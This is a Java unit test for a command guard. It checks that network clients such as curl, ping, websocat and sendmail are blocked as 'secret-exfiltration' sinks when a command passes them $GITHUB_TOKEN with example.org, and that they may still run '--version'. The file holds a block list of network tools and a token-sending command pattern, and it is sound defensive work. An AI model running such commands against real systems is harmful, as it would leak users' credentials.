package dev.loopline.core.guard.command;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The one network list: every client but those whose ordinary use takes the user's own credentials, and the package
 * runners, is a sink to the command guard (no secret may be handed to it); each may still run without one.
 */
class NetworkCommandsTest {

    private final CommandGuard guard = CommandGuard.defaults();

    static Stream<String> clients() {
        return NetworkCommands.CLIENTS.stream().sorted();
    }

    static Stream<String> sinks() {
        return NetworkCommands.SINKS.stream().sorted();
    }

    @ParameterizedTest
    @MethodSource("sinks")
    void everySinkIsRefusedASecret(String client) {
        String command = client + " example.org \"$GITHUB_TOKEN\"";
        Decision decision = guard.check(command);
        assertThat(decision).as(command).isInstanceOf(Decision.Block.class);
        assertThat(((Decision.Block) decision).ruleId()).as(command).isEqualTo("secret-exfiltration");
    }

    @org.junit.jupiter.api.Test
    void theSinksAreTheClientsButThoseTakingTheirOwnCredentialsAndThePackageRunners() {
        assertThat(NetworkCommands.CLIENTS)
                .containsAll(NetworkCommands.SINKS)
                .containsAll(NetworkCommands.OWN_CREDENTIALS)
                .containsAll(NetworkCommands.PACKAGE_RUNNERS)
                .hasSize(NetworkCommands.SINKS.size()
                        + NetworkCommands.OWN_CREDENTIALS.size()
                        + NetworkCommands.PACKAGE_RUNNERS.size());
        assertThat(NetworkCommands.SINKS).contains("curl", "ping", "websocat", "sendmail");
    }

    @ParameterizedTest
    @MethodSource("clients")
    void everyNetworkClientMayStillRunWithoutASecret(String client) {
        String command = client + " --version";
        assertThat(guard.check(command)).as(command).isEqualTo(Decision.allow());
    }
}
